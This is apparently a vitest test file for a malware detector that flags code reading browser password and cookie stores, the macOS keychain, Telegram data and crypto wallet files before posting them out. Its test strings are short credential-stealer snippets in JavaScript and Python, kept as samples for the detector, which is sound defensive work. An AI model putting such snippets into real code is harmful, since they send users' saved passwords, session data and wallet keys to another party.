import { describe, expect, it } from 'vitest';
import { fileHits } from '../../../test/support/file-view.ts';
import detector from './credential-store-paths.ts';

describe('credential-store-paths', () => {
  it('a collector', () => {
    const js =
      "const p = ['Login Data', 'Web Data', 'key4.db', '/.config/solana/id.json']; p.forEach((f) => form.append(f, fs.createReadStream(home + f))); axios.post(u, form);";
    expect(fileHits(detector, 'a.js', js)).toEqual(['proof@1']);
    const py =
      "shutil.copy(p + '/Login Data', t)\nopen(h + '/Library/Keychains/login.keychain-db', 'rb')\nx = 'exodus.wallet'\nrequests.post(u, files=f)\n";
    expect(fileHits(detector, 'a.py', py)).toEqual(['proof@1']);
  });
  it('Windows paths', () => {
    const text =
      "copyFileSync(d + '\\\\Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data', t); readFileSync(d + '\\\\Telegram Desktop\\\\tdata'); readFileSync('Web Data'); fetch(u, { method: 'POST' });";
    expect(fileHits(detector, 'a.js', text)).toEqual(['proof@1']);
  });
  it('a browser helper is weak', () => {
    expect(
      fileHits(detector, 'a.js', "readFileSync(join(profile, 'Login Data')); readFileSync('cookies.sqlite');"),
    ).toEqual(['weak@1']);
  });
  it.each([
    ['one place', 'a.js', "readFileSync(join(profile, 'Login Data')); fetch(u);"],
    ['words', 'a.js', "const label = 'Login Database', other = 'Web Database'; readFileSync(x); fetch(u);"],
    ['a report', 'README.md', 'Login Data, Web Data, key4.db, readFileSync, axios.post('],
  ])('leaves %s alone', (_name, file, text) => {
    expect(fileHits(detector, file, text)).toEqual([]);
  });
});
